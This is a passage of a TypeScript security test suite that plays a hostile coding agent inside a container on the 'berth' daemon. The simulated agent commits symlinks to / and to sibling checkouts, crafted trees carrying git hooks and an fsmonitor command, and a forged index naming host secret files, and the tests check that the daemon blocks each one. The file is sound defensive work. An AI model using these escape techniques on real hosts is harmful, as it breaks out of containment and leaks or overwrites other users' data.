import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, readlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { BerthClient, BerthError, type Session } from '@berth/client-sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commitFiles, hostGit } from '../helpers/git.js';
import { TEST_UID, makeRepo, poll, sh, startDaemon, startWithProject, tempDir, type DaemonProcess } from '../helpers/daemon.js';

/** A git blocked on an agent's FIFO is killed after 30 s here, not the default 120 s: the tests wait for that deadline. */
const FAST_GIT = { BERTH_GIT_TIMEOUT_SEC: '30' };

/**
 * Attacks from inside the agent's container on what berthd does with the agent's checkout, each
 * named after the threat it covers:
 *  1. a merge (or a repair) reaching other sessions' checkouts, other projects, or the user's ignored files;
 *  2. host files read through entries of the agent's `.git/index` (or of its commits' trees);
 *  3. the agent's object store (alternates, loose objects, packs, commit-graph) pointing at
 *     /dev/zero, a FIFO or another project's objects; FIFOs berthd's git opens.
 * Marker files prove nothing ran, a secret outside every checkout proves nothing leaked, snapshots
 * (paths, types, contents) prove nothing was lost. Deadlines only guard against hangs; "not
 * blocked" is asserted as an order (the other call answers while the stuck one is still out).
 */

const MB = 1024 * 1024;
const uniq = randomBytes(3).toString('hex');
const notes: string[] = [];
const note = (s: string) => {
  notes.push(s);
  console.log(`[boundary-agent] ${s}`);
};
afterAll(() => {
  if (notes.length) console.log(`[boundary-agent] observations:\n  ${notes.join('\n  ')}`);
});

const codeOf = (p: Promise<unknown>) => p.then(() => 'ok', (e: unknown) => (e instanceof BerthError ? e.code : `not a BerthError: ${String(e)}`));
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A client for calls that may legitimately take long (hang guard only). */
const patient = (d: DaemonProcess) => new BerthClient({ socketPath: d.socket, timeoutMs: 600_000 });

/** Runs `script` in the session's container (as the agent) and fails on a non-zero exit. */
async function inBox(d: DaemonProcess, s: Session, script: string, timeoutSec = 300): Promise<string> {
  const c = patient(d);
  try {
    const r = await c.sessions.exec({ id: s.id, cmd: sh(script), timeoutSec });
    if (r.exitCode !== 0) throw new Error(`in-container script failed (${r.exitCode}): ${r.stderr}\n${r.stdout}\n--- script:\n${script}`);
    return r.stdout;
  } finally {
    c.close();
  }
}

const lastLine = (out: string) => out.trim().split('\n').pop()!.trim();

/** Every object of a repository, raw (`cat-file --batch`), as the test (root) reads it. */
function allObjects(repo: string): Buffer {
  return execFileSync('git', ['-c', 'safe.directory=*', 'cat-file', '--batch-all-objects', '--batch'], {
    cwd: repo,
    maxBuffer: 1024 * MB,
    env: { PATH: process.env.PATH, HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1' },
  });
}

const hasObject = (repo: string, sha: string) => {
  try {
    hostGit(repo, 'cat-file', '-e', sha);
    return true;
  } catch {
    return false;
  }
};

const tipOf = (repo: string, ref: string) => {
  try {
    return hostGit(repo, 'rev-parse', '-q', '--verify', ref);
  } catch {
    return null;
  }
};

/** Paths under `root` (links not followed) with their type and content hash / link text. */
function snapshot(root: string, skip: (rel: string) => boolean = () => false): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    if (rel && skip(rel)) return;
    const p = rel ? join(root, rel) : root;
    const st = lstatSync(p);
    if (st.isSymbolicLink()) out[rel] = `link -> ${readlinkSync(p)}`;
    else if (st.isDirectory()) {
      out[rel || '.'] = 'dir';
      for (const e of readdirSync(p).sort()) walk(rel ? `${rel}/${e}` : e);
    } else if (st.isFile()) out[rel] = `file ${createHash('sha256').update(readFileSync(p)).digest('hex')}`;
    else out[rel] = `special ${st.mode.toString(8)}`;
  };
  walk('');
  return out;
}
const noIndex = (rel: string) => rel === '.git/index' || rel === '.git/index.lock';

/** Host processes of git's kind (git, its `timeout`/`prlimit` wrappers) working in or naming `dir`. */
function gitProcessesIn(dir: string, exact = false): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const comm = readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
      if (!/^(git|git-.*|timeout|prlimit)$/.test(comm)) continue;
      const cwd = readlinkSync(`/proc/${pid}/cwd`);
      const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ');
      if (exact ? cwd === dir : cwd.startsWith(dir) || cmd.includes(dir)) found.push(`${pid} ${comm} cwd=${cwd} ${cmd.slice(0, 160)}`);
    } catch {
      // gone
    }
  }
  return found;
}

async function noGitLeft(d: DaemonProcess): Promise<void> {
  // A git killed at its deadline needs a moment to be reaped; nothing may outlive that.
  await poll(async () => gitProcessesIn(d.home).length === 0, 200_000, 'no git child left in berth home').catch(() => {});
  expect(gitProcessesIn(d.home)).toEqual([]);
}

/** A second project in `d`, owned by the test uid, with `files` committed. Returns its path. */
async function addProject(d: DaemonProcess, name: string, files: Record<string, string>): Promise<string> {
  const repo = await makeRepo(join(d.home, 'projects', name));
  commitFiles(repo, files, `initial of ${name}`);
  await d.client.projects.add({ name, path: repo });
  return repo;
}

const shadowDir = (d: DaemonProcess, s: Session) => join(d.home, 'shadow', s.id.replace(/[^A-Za-z0-9_-]/g, '_'));

/** A valid index (v2) with the given entries, checksum and all: what an agent can write as its `.git/index`. */
function gitIndex(entries: { name: string; sha: string; mode?: number }[]): Buffer {
  const sorted = [...entries].sort((a, b) => Buffer.compare(Buffer.from(a.name), Buffer.from(b.name)));
  const head = Buffer.alloc(12);
  head.write('DIRC', 0, 'latin1');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(sorted.length, 8);
  const parts = [head];
  for (const e of sorted) {
    const name = Buffer.from(e.name);
    // ctime, mtime, dev, ino zero (so git would re-read the file), then mode, uid, gid, size, sha, flags, name, NULs.
    const entry = Buffer.alloc((62 + name.length + 8) & ~7);
    entry.writeUInt32BE(e.mode ?? 0o100644, 24);
    entry.writeUInt32BE(TEST_UID, 28);
    entry.writeUInt32BE(TEST_UID, 32);
    entry.writeUInt32BE(1, 36);
    Buffer.from(e.sha, 'hex').copy(entry, 40);
    entry.writeUInt16BE(Math.min(name.length, 0xfff), 60);
    name.copy(entry, 62);
    parts.push(entry);
  }
  const body = Buffer.concat(parts);
  return Buffer.concat([body, createHash('sha1').update(body).digest()]);
}

/** Shell that writes `bytes` to `path` inside the container. */
const writeBytes = (path: string, bytes: Buffer) => `echo '${bytes.toString('base64')}' | base64 -d > ${path}`;

/** A directory outside every checkout with a secret, and a world-writable markers directory. */
async function outsideDir(): Promise<{ dir: string; secret: string; secretText: string; markers: string }> {
  const dir = await tempDir('bt-evil-');
  const secretText = `TOPSECRET-${randomBytes(6).toString('hex')}`;
  const secret = join(dir, 'secret.txt');
  writeFileSync(secret, `${secretText}\n`);
  const markers = join(dir, 'markers');
  mkdirSync(markers);
  // Whatever might run (hooks as the project owner, drivers as root) must be able to leave its marker.
  chmodSync(markers, 0o777);
  chmodSync(dir, 0o755);
  return { dir, secret, secretText, markers };
}

// ---------------------------------------------------------------------------------------------------
// Threat 1: a merge reaching other checkouts; repairs deleting what berth did not make.
// ---------------------------------------------------------------------------------------------------

describe('threat 1 (merge reaching other checkouts)', () => {
  it('threat 1 (merge reaching other checkouts): committed links to .., /, PROJECTS_ROOT, $BERTH_HOME/checkouts and a sibling checkout, merged then replaced by directories, then removal and restart repairs: other sessions\' checkouts (uncommitted file, unimported commits), other projects and outside files are intact', async () => {
    const P = `ba1-${uniq}`;
    const OTHER = `ba1o-${uniq}`;
    const NOTES = `ba1n-${uniq}`;
    const { d, repo } = await startWithProject({ env: FAST_GIT }, P);
    let d2: DaemonProcess | null = null;
    const out = await outsideDir();
    try {
      commitFiles(repo, { 'README.md': 'hello\n' }, 'initial');
      const other = await addProject(d, OTHER, { 'keep.txt': 'B-KEEP\n' });
      const notesDir = join(d.home, 'projects', NOTES);
      mkdirSync(notesDir);
      writeFileSync(join(notesDir, 'keep.txt'), 'NOTES\n');
      const projects = join(d.home, 'projects');
      const checkouts = join(d.home, 'checkouts');
      await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });

      const victim = await d.client.sessions.start({ project: P, agent: 'coder', name: 'victim' });
      const V = victim.checkout!.dir;
      await inBox(
        d,
        victim,
        [
          'set -e',
          'echo committed > v.txt && git add v.txt && git commit -qm "victim: imported"',
          'git checkout -qb private && echo p > p.txt && git add p.txt && git commit -qm "victim: never imported"',
          'git checkout -q berth/victim',
          'echo UNCOMMITTED-VICTIM > wip.txt',
        ].join('\n'),
      );
      const victimPrivate = lastLine(await inBox(d, victim, 'git rev-parse private'));
      await poll(async () => tipOf(repo, 'berth/victim') !== null && hostGit(repo, 'log', '-1', '--format=%s', 'berth/victim') === 'victim: imported', 30_000, 'victim import');

      const env = { PROJECTS: projects, CHECKOUTS: checkouts, VICTIM: V, OTHER: other, OTHER_NAME: OTHER, NOTES_NAME: NOTES, OUTSIDE_REL: out.dir.slice(1), P, M: `${out.markers}/m` };
      const evil = await d.client.sessions.start({ project: P, agent: 'coder', name: 'evil', env });
      const orphan = await d.client.sessions.start({ project: P, agent: 'coder', name: 'orphan', env });

      const snap = () => ({
        victim: snapshot(V, noIndex),
        other: snapshot(other, noIndex),
        notes: snapshot(notesDir),
        secret: readFileSync(out.secret, 'utf8'),
        projects: readdirSync(projects).sort(),
      });
      const before = snap();
      expect(before.victim['wip.txt']).toBeDefined();
      const expectIntact = async (when: string) => {
        const now = snap();
        expect(now.victim, `victim checkout after ${when}`).toEqual(before.victim);
        expect(now.other, `project ${OTHER} after ${when}`).toEqual(before.other);
        expect(now.notes, `${NOTES} under PROJECTS_ROOT after ${when}`).toEqual(before.notes);
        expect(now.secret, `outside secret after ${when}`).toBe(before.secret);
        expect(now.projects, `PROJECTS_ROOT listing after ${when}`).toEqual(before.projects);
        expect(readdirSync(out.markers), `markers after ${when}`).toEqual([]);
      };

      // Round 1: links, some next to .git, to everything a merge must never write through.
      await inBox(
        d,
        evil,
        [
          'set -e',
          'ln -s .. .worktrees',
          'ln -s / .git-worktrees',
          'ln -s "$PROJECTS" .gitworktrees',
          'ln -s "$CHECKOUTS" .git.checkouts',
          'ln -s "$VICTIM" .worktrees-victim',
          'ln -s "$OTHER" ..other',
          'ln -s ../../checkouts .rel-checkouts',
          'echo evil > evil.txt',
          'git add -A && git commit -qm "links everywhere"',
        ].join('\n'),
      );
      const m1 = await codeOf(d.client.sessions.merge({ id: evil.id, message: 'merge links' }));
      note(`1 merge of committed links -> ${m1}; main checkout has .worktrees -> ${existsSync(join(repo, '.worktrees')) ? readlinkSync(join(repo, '.worktrees')) : '(none)'}`);
      expect(m1).toBe('ok');
      await expectIntact('merging links');

      // Round 2: the links become directories holding files named like the victims' files.
      await inBox(
        d,
        evil,
        [
          'set -e',
          'for l in .worktrees .git-worktrees .gitworktrees .git.checkouts .worktrees-victim ..other .rel-checkouts; do git rm -q "$l"; done',
          'put() { mkdir -p "$(dirname "$1")" && echo OVERWRITTEN-BY-MERGE > "$1"; }',
          'put ".worktrees/$OTHER_NAME/keep.txt"; put ".worktrees/$NOTES_NAME/keep.txt"',
          'put ".gitworktrees/$OTHER_NAME/keep.txt"; put ".gitworktrees/$NOTES_NAME/keep.txt"',
          'put ".git-worktrees/$OUTSIDE_REL/secret.txt"',
          'put ".git.checkouts/$P/victim/wip.txt"; put ".rel-checkouts/$P/victim/wip.txt"',
          'put ".worktrees-victim/wip.txt"; put "..other/keep.txt"',
          'git add -A && git commit -qm "links become directories"',
        ].join('\n'),
      );
      const m2 = await codeOf(d.client.sessions.merge({ id: evil.id, message: 'merge dirs' }));
      note(`1 merge replacing the links by directories -> ${m2}${m2 === 'ok' ? '' : `: ${await d.client.sessions.merge({ id: evil.id, message: 'merge dirs' }).then(() => '', (e: Error) => e.message)}`}`);
      expect(m2).toBe('ok');
      await expectIntact('merging directories over the links');

      // Planted for removal and repairs: links in the work tree, a stale-looking index.lock that is a link
      // to the victim's uncommitted file, and (orphan) links into the other project's object store.
      await inBox(
        d,
        evil,
        [
          'set -e',
          'ln -s / rootlink; ln -s "$VICTIM" victimlink; ln -s "$PROJECTS" projectslink; ln -s "$CHECKOUTS" checkoutslink',
          'ln -s "$VICTIM/wip.txt" .git/index.lock && touch -h -d "2000-01-01 00:00:00" .git/index.lock',
        ].join('\n'),
      );
      const bObjects = hostGit(other, 'rev-list', '--objects', '--all').split('\n').map((l) => l.split(' ')[0]!);
      const bHead = hostGit(other, 'rev-parse', 'HEAD');
      await inBox(
        d,
        orphan,
        [
          'set -e',
          'echo o > o.txt && git add o.txt && git commit -qm "orphan work"',
          'ln -s / rootlink; ln -s "$VICTIM" victimlink; ln -s "$PROJECTS" projectslink',
          `for o in ${bObjects.join(' ')}; do`,
          '  d=$(echo $o | cut -c1-2); f=$(echo $o | cut -c3-)',
          '  if [ -e .git/objects/$d ] || [ -L .git/objects/$d ]; then ln -s "$OTHER/.git/objects/$d/$f" .git/objects/$d/$f 2>/dev/null || true; else ln -s "$OTHER/.git/objects/$d" .git/objects/$d; fi',
          'done',
          'ln -s "$VICTIM/wip.txt" .git/index.lock && touch -h -d "2000-01-01 00:00:00" .git/index.lock',
        ].join('\n'),
      );
      await poll(async () => hostGit(repo, 'log', '-1', '--format=%s', 'berth/orphan') === 'orphan work', 30_000, 'orphan import').catch(() => {});
      await inBox(d, orphan, `printf '%s\\n' ${bHead} > .git/refs/heads/berth/orphan`);
      await d.client.sessions.stop({ id: evil.id });

      // Restart: the orphan's record is gone (a restored backup), a stale lock waits in the project.
      await d.stop();
      const Database = (await import('better-sqlite3')).default;
      const db = new Database(join(d.home, 'berth.db'));
      db.prepare('DELETE FROM sessions WHERE id = ?').run(orphan.id);
      db.close();
      writeFileSync(join(repo, '.git', 'index.lock'), '');
      const old = new Date(Date.now() - 3600_000);
      utimesSync(join(repo, '.git', 'index.lock'), old, old);
      d2 = await startDaemon({ home: d.home, ownsHome: true, env: { ...FAST_GIT, BERTH_ORPHAN_GRACE_SEC: '0', BERTH_RESYNC_SEC: '1' } });
      await d2.waitForLog(/checkout .*orphan belongs to no session berth knows/, 60_000);
      await d2.waitForLog(/removed stale .*index\.lock/, 60_000);
      await sleep(3000);
      await expectIntact('restart repairs');
      expect(existsSync(orphan.checkout!.dir), 'the orphan checkout is reported, not removed').toBe(true);
      expect(hasObject(repo, bHead), "the orphan's link to another project's objects imported nothing").toBe(false);

      const removed = await codeOf(d2.client.sessions.remove({ id: evil.id, force: true }));
      note(`1 removal of the stopped evil session (links to /, PROJECTS_ROOT, checkouts, victim) -> ${removed}; its checkout ${existsSync(evil.checkout!.dir) ? 'kept' : 'removed'}`);
      await expectIntact('removing the evil checkout');
      await poll(async () => (await d2!.client.sessions.get({ id: victim.id })).state === 'running', 60_000, 'victim running after the restart');
      // The victim's commits that were never imported are still its own.
      expect(lastLine(await inBox(d2, victim, 'git rev-parse private'))).toBe(victimPrivate);
      expect(await inBox(d2, victim, 'cat wip.txt')).toBe('UNCOMMITTED-VICTIM\n');
      expect(readFileSync(join(other, 'keep.txt'), 'utf8')).toBe('B-KEEP\n');
    } finally {
      if (d2) await d2[Symbol.asyncDispose]();
      await d[Symbol.asyncDispose]();
      await rm(out.dir, { recursive: true, force: true });
    }
  }, 900_000);

  describe('variants', () => {
    let d: DaemonProcess;
    let n = 0;
    const out: { dir: string; markers: string }[] = [];

    beforeAll(async () => {
      d = await startDaemon({ env: FAST_GIT });
      await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });
    });
    afterAll(async () => {
      await d?.[Symbol.asyncDispose]();
      for (const o of out) await rm(o.dir, { recursive: true, force: true });
    });

    /** A fresh project whose .gitignore keeps `.env` and `build/` out, with the user's ignored files in place. */
    async function userProject(extraIgnore = ''): Promise<{ name: string; repo: string }> {
      const name = `ba1v${++n}-${uniq}`;
      const repo = await addProject(d, name, { 'README.md': 'hello\n', '.gitignore': `.env\nbuild/\n${extraIgnore}` });
      writeFileSync(join(repo, '.env'), 'USER_SECRET=hunter2\n');
      mkdirSync(join(repo, 'build'));
      writeFileSync(join(repo, 'build', 'cache.db'), 'USER BUILD DATA\n');
      execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, repo]);
      return { name, repo };
    }

    const userFiles = (repo: string) => ({
      env: existsSync(join(repo, '.env')) ? (lstatSync(join(repo, '.env')).isFile() ? readFileSync(join(repo, '.env'), 'utf8') : 'not a file') : 'gone',
      build: snapshot(join(repo, 'build')),
    });

    for (const strategy of ['merge', 'squash', 'ff'] as const) {
      it(`threat 1 (merge overwriting ignored files) variant: the agent commits .env, which the user keeps ignored with a secret in it; strategy ${strategy}${strategy === 'squash' ? ' after the base moved' : ''}: refused with MERGE_CONFLICT, .env unchanged`, async () => {
        const { name, repo } = await userProject();
        const s = await d.client.sessions.start({ project: name, agent: 'coder', name: `env-${strategy}` });
        await inBox(d, s, 'printf "AGENT=1\\n" > .env && git add -f .env && git commit -qm "add .env"');
        if (strategy === 'squash') {
          commitFiles(repo, { 'moved.txt': 'main moved\n' }, 'main moves on');
        }
        const user0 = userFiles(repo);
        const main0 = hostGit(repo, 'rev-parse', 'HEAD');
        const code = await codeOf(d.client.sessions.merge({ id: s.id, strategy }));
        const user1 = userFiles(repo);
        note(`1 .env committed by the agent, merge ${strategy} -> ${code}; user's .env now ${JSON.stringify(user1.env)}`);
        expect(user1).toEqual(user0);
        expect(code).toBe('MERGE_CONFLICT');
        expect(hostGit(repo, 'rev-parse', 'HEAD')).toBe(main0);
        await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
      }, 300_000);
    }

    it('threat 1 (merge overwriting ignored files) variant: the agent commits `build` as a link to / where the user keeps an ignored build/ directory with data: the default merge is refused and build/ keeps its files', async () => {
      const { name, repo } = await userProject();
      const s = await d.client.sessions.start({ project: name, agent: 'coder', name: 'build-link' });
      await inBox(d, s, 'ln -s / build && git add -f build && git commit -qm "build is a link"');
      const user0 = userFiles(repo);
      const code = await codeOf(d.client.sessions.merge({ id: s.id }));
      const st = lstatSync(join(repo, 'build'));
      note(`1 'build' link committed over the user's ignored build/, merge -> ${code}; build is now ${st.isSymbolicLink() ? `a link to ${readlinkSync(join(repo, 'build'))}` : st.isDirectory() ? 'still a directory' : 'something else'}`);
      expect(st.isDirectory()).toBe(true);
      expect(userFiles(repo)).toEqual(user0);
      expect(code).toBe('MERGE_CONFLICT');
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }, 300_000);

    it('threat 1 (merge overwriting ignored files) variant: .env ignored only through the project\'s .git/info/exclude: the merge is refused with MERGE_CONFLICT (not MAIN_CHECKOUT_DIRTY: the user\'s excludes apply to the main checkout) and .env is unchanged', async () => {
      const name = `ba1v${++n}-${uniq}`;
      const repo = await addProject(d, name, { 'README.md': 'hello\n' });
      writeFileSync(join(repo, '.git', 'info', 'exclude'), '.env\n');
      writeFileSync(join(repo, '.env'), 'USER_SECRET=hunter2\n');
      execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, repo]);
      const s = await d.client.sessions.start({ project: name, agent: 'coder', name: 'exclude' });
      await inBox(d, s, 'printf "AGENT=1\\n" > .env && git add -f .env && git commit -qm "add .env"');
      const code = await codeOf(d.client.sessions.merge({ id: s.id }));
      note(`1 .env ignored via .git/info/exclude, merge -> ${code}`);
      expect(readFileSync(join(repo, '.env'), 'utf8')).toBe('USER_SECRET=hunter2\n');
      // The user's excludes are theirs: .env is not "uncommitted work" in the main checkout, and the merge is refused for it.
      expect(code).toBe('MERGE_CONFLICT');
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }, 300_000);

    /** Makes the session's branch a commit whose tree has both `wt` (a link to `$VICTIM`) and `wt/wip.txt` (a tree git's fsck rejects: duplicateEntries). */
    const dupTree = (branch: string) =>
      [
        'set -e',
        'L=$(printf %s "$VICTIM" | git hash-object -w --stdin)',
        'B=$(echo OVERWRITTEN-BY-MERGE | git hash-object -w --stdin)',
        'SUB=$(printf "100644 blob %s\\twip.txt\\n" $B | git mktree)',
        'T=$( (git ls-tree HEAD; printf "120000 blob %s\\twt\\n040000 tree %s\\twt\\n" $L $SUB) | git mktree)',
        'C=$(git commit-tree $T -p HEAD -m "wt twice")',
        `git update-ref refs/heads/${branch} $C`,
      ].join('\n');

    for (const strategy of ['ff', 'merge', 'squash'] as const) {
      it(`threat 1 (merge reaching other checkouts) variant: a crafted tree holding both \`wt\` (a link to a sibling checkout) and \`wt/wip.txt\`, merged with strategy ${strategy}: the sibling's uncommitted file is untouched`, async () => {
        const name = `ba1v${++n}-${uniq}`;
        const repo = await addProject(d, name, { 'README.md': 'hello\n' });
        const victim = await d.client.sessions.start({ project: name, agent: 'coder', name: `sib-${strategy}` });
        await inBox(d, victim, 'echo UNCOMMITTED-SIBLING > wip.txt');
        const before = snapshot(victim.checkout!.dir, noIndex);
        const s = await d.client.sessions.start({ project: name, agent: 'coder', name: `dup-${strategy}`, env: { VICTIM: victim.checkout!.dir } });
        await inBox(d, s, dupTree(`berth/dup-${strategy}`));
        const code = await codeOf(d.client.sessions.merge({ id: s.id, strategy }));
        const fsck = (() => {
          try {
            hostGit(repo, 'fsck', '--no-dangling', '--no-progress');
            return 'clean';
          } catch (e) {
            return String((e as { stderr?: string }).stderr ?? e).trim().split('\n')[0];
          }
        })();
        note(`1 tree with wt (link to a sibling checkout) and wt/wip.txt, merge ${strategy} -> ${code}; main checkout status ${JSON.stringify(hostGit(repo, 'status', '--porcelain'))}; project fsck: ${fsck}`);
        expect(snapshot(victim.checkout!.dir, noIndex)).toEqual(before);
        expect(readFileSync(join(victim.checkout!.dir, 'wip.txt'), 'utf8')).toBe('UNCOMMITTED-SIBLING\n');
        await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
        await d.client.sessions.remove({ id: victim.id, force: true, deleteBranch: true }).catch(() => {});
      }, 300_000);
    }

    it('threat 1 (merge reaching other checkouts) variant: the same duplicate-entry tree (which git fsck rejects) is not merged into the base: refused with a code, main unchanged and the main checkout clean', async () => {
      const name = `ba1v${++n}-${uniq}`;
      const repo = await addProject(d, name, { 'README.md': 'hello\n' });
      const victim = await d.client.sessions.start({ project: name, agent: 'coder', name: 'sib-fsck' });
      const s = await d.client.sessions.start({ project: name, agent: 'coder', name: 'dup-fsck', env: { VICTIM: victim.checkout!.dir } });
      await inBox(d, s, dupTree('berth/dup-fsck'));
      const main0 = hostGit(repo, 'rev-parse', 'HEAD');
      const code = await codeOf(d.client.sessions.merge({ id: s.id, strategy: 'ff' }));
      const status = hostGit(repo, 'status', '--porcelain');
      note(`1 duplicate-entry tree, merge ff -> ${code}; main ${hostGit(repo, 'rev-parse', 'HEAD') === main0 ? 'unchanged' : 'moved'}; main checkout status ${JSON.stringify(status)}`);
      expect(hostGit(repo, 'rev-parse', 'HEAD'), 'a tree git fsck rejects (duplicateEntries) became the base branch').toBe(main0);
      expect(code).not.toBe('ok');
      expect(status).toBe('');
      // Removing the session finishes (it used to retry the refused import until the call gave up)
      // and keeps the checkout, commits and all: berth deletes no commit it could not import.
      const removed = await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true });
      expect(removed.notes.join('\n')).toMatch(/kept untouched/);
      expect(existsSync(join(s.checkout!.dir, '.git'))).toBe(true);
      await expect(d.client.sessions.get({ id: s.id })).rejects.toMatchObject({ code: 'SESSION_NOT_FOUND' });
      await d.client.sessions.remove({ id: victim.id, force: true, deleteBranch: true }).catch(() => {});
    }, 300_000);

    it('threat 1 (merge reaching other checkouts) variant: crafted trees with .git/hooks/post-merge, .GIT, ".git " and .. entries: every merge fails with a code, the base is unchanged, no hook ran', async () => {
      const name = `ba1v${++n}-${uniq}`;
      const repo = await addProject(d, name, { 'README.md': 'hello\n' });
      const o = await outsideDir();
      out.push(o);
      const main0 = hostGit(repo, 'rev-parse', 'HEAD');
      for (const [i, entry] of ['.git', '.GIT', '.git ', 'git~1', '..'].entries()) {
        const s = await d.client.sessions.start({ project: name, agent: 'coder', name: `dotgit${i}`, env: { M: `${o.markers}/m`, ENTRY: entry } });
        await inBox(
          d,
          s,
          [
            'set -e',
            'B=$(printf "#!/bin/sh\\ntouch $M.hook\\n" | git hash-object -w --stdin)',
            'CFG=$(printf "[core]\\n\\tfsmonitor = touch $M.fsmonitor\\n\\thooksPath = hooks\\n" | git hash-object -w --stdin)',
            'H=$(printf "100755 blob %s\\tpost-merge\\n100755 blob %s\\tpost-checkout\\n" $B $B | git mktree)',
            'G=$(printf "100644 blob %s\\tconfig\\n040000 tree %s\\thooks\\n" $CFG $H | git mktree)',
            'T=$( (git ls-tree HEAD; printf "040000 tree %s\\t%s\\n" $G "$ENTRY") | git mktree)',
            `git update-ref refs/heads/berth/dotgit${i} $(git commit-tree $T -p HEAD -m "entry")`,
          ].join('\n'),
        );
        for (const strategy of ['ff', 'merge'] as const) {
          const code = await codeOf(d.client.sessions.merge({ id: s.id, strategy }));
          note(`1 tree entry ${JSON.stringify(entry)}/{config,hooks/post-merge}, merge ${strategy} -> ${code}`);
          expect(code).not.toBe('ok');
          expect(code).not.toMatch(/^not a BerthError/);
          expect(hostGit(repo, 'rev-parse', 'HEAD')).toBe(main0);
          expect(readdirSync(o.markers)).toEqual([]);
        }
        await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
      }
      expect(hostGit(repo, 'status', '--porcelain')).toBe('');
    }, 600_000);
  });
});

// ---------------------------------------------------------------------------------------------------
// Threat 2: host files read through index entries.
// ---------------------------------------------------------------------------------------------------

describe('threat 2 (index entries naming host paths)', () => {
  const P = `ba2-${uniq}`;
  const OTHER = `ba2o-${uniq}`;
  let d: DaemonProcess;
  let repo: string;
  let other: string;
  let o: Awaited<ReturnType<typeof outsideDir>>;
  const decoy = createHash('sha1').update('blob 6\0decoy\n').digest('hex');

  beforeAll(async () => {
    ({ d, repo } = await startWithProject({ env: FAST_GIT }, P));
    commitFiles(repo, { 'README.md': 'hello\n', 'app.txt': 'app\n' }, 'initial');
    other = await addProject(d, OTHER, { 'private.txt': `B-PRIVATE-${uniq}\n` });
    o = await outsideDir();
    await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });
  });
  afterAll(async () => {
    await d?.[Symbol.asyncDispose]();
    if (o) await rm(o.dir, { recursive: true, force: true });
  });

  /** status, diff, diff --stat and remove --force of `s`; every output, the wip commit and the project's objects are returned for checks. */
  async function readAll(s: Session): Promise<{ outputs: string; wipTree: string; objects: Buffer; codes: Record<string, string> }> {
    const c = patient(d);
    const codes: Record<string, string> = {};
    const outputs: string[] = [];
    try {
      for (const [what, call] of [
        ['status', () => c.sessions.status({ id: s.id })],
        ['diff', () => c.sessions.diff({ id: s.id })],
        ['stat', () => c.sessions.diff({ id: s.id, stat: true })],
      ] as const) {
        try {
          outputs.push(JSON.stringify(await call()));
          codes[what] = 'ok';
        } catch (e) {
          codes[what] = e instanceof BerthError ? e.code : `not a BerthError: ${String(e)}`;
          outputs.push(String((e as Error).message), JSON.stringify((e as BerthError).details ?? {}));
        }
      }
      try {
        const r = await c.sessions.remove({ id: s.id, force: true });
        outputs.push(JSON.stringify(r));
        codes.remove = 'ok';
      } catch (e) {
        codes.remove = e instanceof BerthError ? e.code : `not a BerthError: ${String(e)}`;
        outputs.push(String((e as Error).message));
      }
    } finally {
      c.close();
    }
    const wip = `refs/berth/wip/${s.name}`;
    const wipTree = tipOf(repo, wip) ? hostGit(repo, 'ls-tree', '-r', '--full-tree', wip) : '';
    return { outputs: outputs.join('\n'), wipTree, objects: allObjects(repo), codes };
  }

  it('threat 2 (index entries naming host paths): a valid .git/index with entries ../../…/secret.txt (relative, and deep to /): status, diff and remove --force neither show nor store the secret', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'dotdot' });
    const rel = relative(s.checkout!.dir, o.secret);
    const deep = `${'../'.repeat(20)}${o.secret.slice(1)}`;
    const index = gitIndex([
      { name: rel, sha: decoy },
      { name: deep, sha: decoy },
      { name: 'README.md', sha: decoy },
    ]);
    await inBox(d, s, 'echo change >> app.txt');
    await inBox(d, s, writeBytes('.git/index', index));
    // The index is well formed: the agent's own git reads it and lists the crafted paths.
    const listed = await inBox(d, s, 'git ls-files');
    expect(listed).toContain(rel);
    const r = await readAll(s);
    note(`2 index with ../ entries: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    expect(r.outputs).not.toContain(o.secretText);
    expect(r.outputs).not.toContain('../');
    expect(r.wipTree).not.toContain('secret');
    expect(r.objects.includes(Buffer.from(o.secretText))).toBe(false);
    expect(r.codes.status).toBe('ok');
    expect(r.codes.diff).toBe('ok');
    expect(r.outputs).toContain('+change');
  }, 300_000);

  it('threat 2 (index entries naming host paths) variant: index entries under a linked directory (link/secret.txt, link -> outside), .git/config and an absolute path: nothing of them is shown or stored', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'linked', env: { OUTSIDE: o.dir } });
    const cfgMarker = `CLONECONFIG-${randomBytes(4).toString('hex')}`;
    await inBox(d, s, `set -e\ngit config berth.marker ${cfgMarker}\nln -s "$OUTSIDE" link\necho change >> app.txt`);
    const index = gitIndex([
      { name: 'link/secret.txt', sha: decoy },
      { name: '.git/config', sha: decoy },
      { name: o.secret, sha: decoy },
      { name: 'app.txt', sha: decoy },
    ]);
    await inBox(d, s, writeBytes('.git/index', index));
    expect(await inBox(d, s, 'git ls-files')).toContain('link/secret.txt');
    const r = await readAll(s);
